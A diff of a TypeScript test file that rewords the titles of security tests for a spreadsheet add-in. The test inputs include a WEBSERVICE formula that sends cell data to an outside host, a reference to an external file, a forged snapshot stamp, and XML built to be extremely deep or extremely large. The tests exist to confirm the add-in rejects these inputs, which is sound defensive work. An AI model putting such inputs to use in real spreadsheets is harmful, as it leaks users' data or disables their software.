@@ -59,7 +59,7 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
   },
   'enter a formula other than one call of an IDS function': entersNothing(`=WEBSERVICE("${elsewhere}/?"&A1)`),
   'enter a formula that refers to another file': entersNothing(`=IDS.POSITIONS('${elsewhere}/x.xlsx'!N,"last")`),
-  "make a refresh overwrite rows that don't carry the marks of what was written": changesNothing((sound) => [
+  "make a refresh overwrite rows that don't match what the add-in wrote": changesNothing((sound) => [
     aimedAt(sound, mine, 'Mine'),
   ]),
   'write into a table that was neither linked nor confirmed on this device': changesNothing((sound) => [
@@ -69,7 +69,7 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
   'write values under the header of another column': changesNothing((sound) => [
     aimedAt(sound, mine, 'Mine').replace('header="Quantity"', 'header="Price"'),
   ]),
-  'refresh one table by two definitions': async () => {
+  'refresh one table through two definitions': async () => {
     const { workbook, actions, sound } = await openFile();
     workbook.kept.set('{second}', called(sound, 'second'));
     const listed = await actions.listDataRanges();
@@ -78,13 +78,13 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
       expect.objectContaining({ state: 'failed', problem: expect.stringMatching(/second definition/) as string }),
     );
   },
-  'clear cells by a forged snapshot stamp': changesNothing((sound) => [
+  'clear cells with a forged snapshot stamp': changesNothing((sound) => [
     frozen(
       aimedAt(sound, mine, 'Mine'),
       `<note sheet="${mine}" row="6" column="0" rows="2" columns="2" hash="2-x-y"/>`,
     ),
   ]),
-  'have cells that someone typed over converted or removed': async () => {
+  'convert or remove cells that someone typed over': async () => {
     const { workbook, actions } = await openFile();
     const sheet = workbook.sheetAt('Sheet1');
     sheet.set(2, 1, { ...sheet.get(2, 1), value: 999 });
@@ -103,14 +103,14 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     workbook.kept.set(part, now.replace(written, (written.exec(sound)?.[0] ?? '').replace(/>[0-9a-z]{6}/, '>zzzzzz')));
     expect(await actions.listDataRanges()).toMatchObject([{ state: 'stale' }]);
   },
-  'keep other tables or the audit from working by a broken definition': async () => {
+  'stop other tables or the audit from working with a broken definition': async () => {
     const { workbook, actions, sound } = await openFile();
     workbook.kept.set('{broken}', sound.slice(0, 200));
     workbook.kept.set('{other}', called(aimedAt(sound, mine, 'Mine'), 'other').replaceAll('header="', 'header="x'));
     expect(await actions.refreshDataRanges('all')).toContainEqual(expect.objectContaining({ outcome: 'unchanged' }));
     await expect(actions.writeAudit()).resolves.toMatch(/^IDS audit/);
   },
-  'stop the add-in by its size or depth': async () => {
+  'stop the add-in with its size or nesting': async () => {
     const { workbook, actions, sound } = await openFile();
     workbook.kept.set('{deep}', put(sound, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
     workbook.kept.set('{wide}', put(sound, `<!--${'x'.repeat(1_000_000)}-->`));
